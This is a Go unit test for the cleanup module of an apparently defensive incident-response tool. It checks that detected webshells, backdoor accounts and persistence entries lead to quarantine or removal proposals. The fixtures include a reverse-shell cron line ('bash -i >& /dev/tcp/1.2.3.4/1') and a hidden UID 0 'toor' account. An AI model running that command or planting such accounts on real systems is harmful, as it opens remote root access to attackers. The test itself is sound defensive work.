//go:build !wasip1

package main

import (
	"strings"
	"testing"

	"github.com/firebreak-ir/firebreak/sdk"
)

func finding(id, module, sid, sig, line string) string {
	return strings.Join([]string{id, module, sid, sig, line}, string(rune(sdk.FindingSep)))
}

func TestCleanupProposals(t *testing.T) {
	for _, tc := range []struct {
		path, finding string
		want          sdk.Action // Type "" for none
	}{
		{"/var/www/html/x.php", finding("F3.1", "webshell", "1006001", "webshell", ""), sdk.Action{Type: Quarantine, Target: "/var/www/html/x.php"}},
		{"/etc/passwd", finding("F3.2", "accounts", "1007001", "second UID 0 account toor", "toor:x:0:0::/root:/bin/bash"), sdk.Action{Type: RemoveAccount, Target: "/etc/passwd", Detail: "toor"}},
		{"/etc/cron.d/x", finding("F3.3", "persistence", "1008001", "cron", "* * * * * root bash -i >& /dev/tcp/1.2.3.4/1 0>&1"), sdk.Action{Type: RemoveLine, Target: "/etc/cron.d/x", Detail: "* * * * * root bash -i >& /dev/tcp/1.2.3.4/1 0>&1"}},
		{"/etc/systemd/system/r.service", finding("F3.4", "persistence", "1008002", "unit", "ExecStart=/bin/sh"), sdk.Action{Type: DisableUnit, Target: "/etc/systemd/system/r.service"}},
		{"/var/log/auth.log", finding("F3.5", "authlog", "1009001", "guessing", ""), sdk.Action{}},
	} {
		t.Run(tc.path, func(t *testing.T) {
			sdk.Test.Reset()
			var b sdk.Builder
			b.Begin(sdk.Header{Kind: sdk.KindFile})
			b.Str(sdk.FieldPath, tc.path)
			b.Str(sdk.FieldFinding, tc.finding)
			b.End()
			ev, _, _ := b.Batch().Next()
			if err := (&cleanup{}).File(ev, nil); err != nil {
				t.Fatal(err)
			}
			if tc.want.Type == "" {
				if len(sdk.Test.Actions) != 0 {
					t.Fatalf("proposed %+v for a log finding", sdk.Test.Actions)
				}
				return
			}
			if len(sdk.Test.Actions) != 1 {
				t.Fatalf("actions %+v, want one", sdk.Test.Actions)
			}
			a := sdk.Test.Actions[0]
			if a.Type != tc.want.Type || a.Target != tc.want.Target || a.Detail != tc.want.Detail || len(a.Answers) != 1 {
				t.Fatalf("action %+v, want %+v answering the finding", a, tc.want)
			}
		})
	}
}
